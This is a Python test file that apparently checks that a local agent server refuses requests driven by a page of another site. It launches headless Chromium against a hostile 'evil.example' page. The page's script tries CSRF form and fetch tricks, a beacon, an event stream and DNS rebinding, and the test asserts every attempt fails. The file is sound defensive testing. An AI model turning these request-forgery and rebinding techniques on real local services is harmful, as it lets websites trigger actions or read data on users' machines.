"""A page of another site, in a real browser, cannot drive a service without keys on the same machine."""

from __future__ import annotations

import asyncio
import json
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route
from tests.server.live_server import serve

from holdfast import Agent
from holdfast.server import create_app
from holdfast.testing import ScriptedModel

pytestmark = pytest.mark.slow  # needs a browser

BROWSER = (
    shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
)
REBOUND = "rebound.example"  # a name that its owner points to 127.0.0.1

# Tries whatever a page can do, and tells its own server what it got to see.
PAGE = """<!doctype html><title>A page of another site</title>
<iframe name="frame"></iframe>
<form id="form" method="post" enctype="text/plain" target="frame" action="TARGET/api/v1/turns">
  <input name='{"agent": "greeter", "message": "form", "x": "' value='"}'>
</form>
<img src="TARGET/api/v1/agents"><iframe src="TARGET/console/"></iframe>
<script type="module">
const seen = {};
const turn = JSON.stringify({ agent: "greeter", message: "fetch" });
const tries = {
  simple: () => fetch("TARGET/api/v1/turns", { method: "POST", mode: "no-cors", body: turn }),
  blob: () => fetch("TARGET/api/v1/turns", {
    method: "POST", mode: "no-cors", body: new Blob([turn], { type: "text/plain" }) }),
  json: () => fetch("TARGET/api/v1/turns", {
    method: "POST", headers: { "Content-Type": "application/json" }, body: turn }),
  empty: () => fetch("TARGET/api/v1/sessions/s/cancel", { method: "POST", mode: "no-cors" }),
  read: () => fetch("TARGET/api/v1/agents"),
  cookies: () => fetch("TARGET/api/v1/agents", { credentials: "include" }),
  rebound: () => fetch("REBOUND/api/v1/agents", { mode: "no-cors" }),
};
for (const [name, attempt] of Object.entries(tries)) {
  try {
    const reply = await attempt();
    seen[name] = reply.type === "opaque" ? "opaque" : await reply.text();
  } catch (error) { seen[name] = "refused"; }
}
seen.beacon = navigator.sendBeacon("TARGET/api/v1/turns", turn);
seen.events = await new Promise((resolve) => {
  const source = new EventSource("TARGET/api/v1/sessions/s/events");
  source.onopen = () => resolve("open");
  source.onerror = () => { source.close(); resolve("refused"); };
});
document.getElementById("form").submit();
await new Promise((resolve) => { setTimeout(resolve, 500); });
await fetch("/seen", { method: "POST", body: JSON.stringify(seen) });
</script>
"""


@asynccontextmanager
async def browse(address: str, profile: Path) -> AsyncIterator[None]:
    assert BROWSER is not None
    process = await asyncio.create_subprocess_exec(
        BROWSER,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        f"--host-resolver-rules=MAP *.example 127.0.0.1,MAP {REBOUND} 127.0.0.1",
        f"--user-data-dir={profile}",
        "--remote-debugging-port=0",
        address,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        process.kill()
        await process.wait()


@pytest.mark.timeout(120)
@pytest.mark.skipif(BROWSER is None, reason="needs the browser chromium")
async def test_a_page_in_a_browser_starts_nothing_and_reads_nothing(tmp_path: Path) -> None:
    shown: asyncio.Queue[dict[str, object]] = asyncio.Queue()
    app = create_app(Agent(ScriptedModel(*["Ha."] * 20), name="greeter"))
    targets: dict[str, str] = {}

    async def show_page(_request: Request) -> Response:
        page = PAGE.replace("TARGET", targets["own"]).replace("REBOUND", targets["rebound"])
        return Response(page, media_type="text/html")

    async def note_seen(request: Request) -> Response:
        await shown.put(json.loads(await request.body()))
        return Response()

    hostile = Starlette(routes=[Route("/", show_page), Route("/seen", note_seen, methods=["POST"])])
    async with serve(app) as service, serve(hostile) as site:
        targets["own"] = f"http://127.0.0.1:{service.port}"
        targets["rebound"] = f"http://{REBOUND}:{service.port}"
        async with browse(f"http://evil.example:{site.port}/", tmp_path / "profile"):
            seen = await asyncio.wait_for(shown.get(), 60)
        sessions = (await service.request("GET", "/api/v1/sessions")).json()["sessions"]
        metrics = (await service.request("GET", "/metrics")).body.decode()
    assert sessions == []
    assert seen.pop("beacon") is True  # it is sent, and nobody sees the answer
    assert set(seen.values()) == {"refused"}, seen
    answered = [
        line.partition("{")[2]
        for line in metrics.splitlines()
        if line.startswith("holdfast_http_requests_total{")
    ]
    # All of them have reached the service: a form, a beacon and three of `fetch` among them.
    assert 'method="POST",route="unmatched",status="403"} 5' in answered, answered
    assert 'method="OPTIONS",route="unmatched",status="403"} 1' in answered
    assert 'method="GET",route="unmatched",status="400"} 1' in answered  # under the foreign name
    assert sum('status="2' in line for line in answered) == 1  # the test's own request
